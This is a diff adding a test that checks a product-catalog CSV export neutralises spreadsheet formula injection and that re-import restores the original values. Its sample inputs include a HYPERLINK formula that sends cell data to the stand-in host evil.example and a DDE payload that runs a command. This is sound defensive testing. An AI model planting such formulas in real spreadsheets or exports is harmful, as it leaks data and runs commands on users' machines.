@@ -246,3 +246,56 @@ def test_adjust_master_stock_refuses_unknown_or_negative(engine: Engine) -> None
             adjust_master_stock(session, {"QN-BACHE-0001": 5, "NOPE-1": 3})
         with pytest.raises(ValueError, match="cannot be negative"):
             adjust_master_stock(session, {"QN-BACHE-0001": -1})
+
+
+# --- formula injection ------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=already quoted by hand",
+    "''+two quotes",
+    "'just an apostrophe",
+    "a = b, not a formula",
+]
+
+
+def test_csv_export_neutralises_formulas_and_reimport_restores_them(
+    engine: Engine, tmp_path: Path
+) -> None:
+    """OWASP CSV injection: a quote before = + - @ tab CR; import takes it off again."""
+    with Session(engine) as session:
+        template = product_as_row(get_product(session, "QN-BACHE-0001"), None)
+    seed = [
+        {**template, "sku": f"FX-{i}", "description": text, "name": text}
+        for i, text in enumerate(FORMULAS)
+    ]
+    source = tmp_path / "seed.json"
+    source.write_text(json.dumps(seed, ensure_ascii=False, default=str), encoding="utf-8")
+    assert import_catalog(engine, source).added == len(FORMULAS)
+    path = tmp_path / "export.csv"
+    export_catalog(engine, path, entity="QN-E001")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        cells = {row["sku"]: row for row in csv.DictReader(handle)}
+    shown = [cells[f"FX-{i}"]["description"] for i in range(len(FORMULAS))]
+    assert shown == [
+        "'" + FORMULAS[0],
+        "'" + FORMULAS[1],
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "''=already quoted by hand",
+        "'''+two quotes",
+        "'just an apostrophe",
+        "a = b, not a formula",
+    ]
+    assert not any(c[:1] in "=+-@\t\r" for row in cells.values() for c in row.values() if c)
+
+    again = import_catalog(engine, path)
+    assert (again.updated, again.added) == (0, 0)
+    fresh = make_engine(f"sqlite:///{tmp_path}/fresh.db")
+    import_catalog(fresh, path)
+    with Session(fresh) as session:
+        restored = {p.sku: (p.name, p.description) for p in list_products(session)}
+    assert [restored[f"FX-{i}"] for i in range(len(FORMULAS))] == [(t, t) for t in FORMULAS]
